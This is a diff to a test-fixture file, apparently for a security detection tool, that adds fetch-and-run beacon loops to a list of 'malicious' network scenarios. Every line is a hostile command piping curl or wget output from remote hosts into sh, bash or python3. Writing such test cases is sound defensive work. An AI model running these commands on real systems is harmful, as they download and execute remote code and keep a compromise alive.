@@ -81,6 +81,10 @@ export const malicious: readonly Scenario[] = [
 
   // suspicious_network (T1105, T1046, T1572, T1090)
   scenario('suspicious_network', 'curl | bash from a raw IP', shc('curl -fsSL http://185.224.128.7/init.sh | bash')),
+  // Atomic Red Team T1105 / T1059.004: a fetch-and-run beacon loop, from an internal host too.
+  scenario('suspicious_network', 'beacon loop: curl | sh every minute from an internal host', shc('while true; do curl -s http://10.0.0.5/s.sh | sh; sleep 60; done')),
+  scenario('suspicious_network', 'beacon loop: wget | bash over https', bashc('while :; do wget -qO- https://cdn.example.com/u.sh | bash; sleep 300; done')),
+  scenario('suspicious_network', 'beacon loop: curl | python3 until killed', bashc('until false; do curl -fsS https://10.20.0.9:8443/t.py | python3; sleep 30; done', { container: true, parents: ['containerd-shim'] })),
   scenario('suspicious_network', 'wget -O - | sh over cleartext', shc('wget -q -O - http://update.example-cdn.ru/d.sh | sh')),
   scenario('suspicious_network', 'sh -c "$(curl ...)" from an unknown GitHub repo', shc('sh -c "$(curl -fsSL https://raw.githubusercontent.com/evilgroup/tools/main/install.sh)"')),
   scenario('suspicious_network', 'pipe-to-shell test script', shc('cd /tmp; curl -s https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1059.004/src/pipe-to-shell.sh |bash; ls -la /tmp/art.txt')),
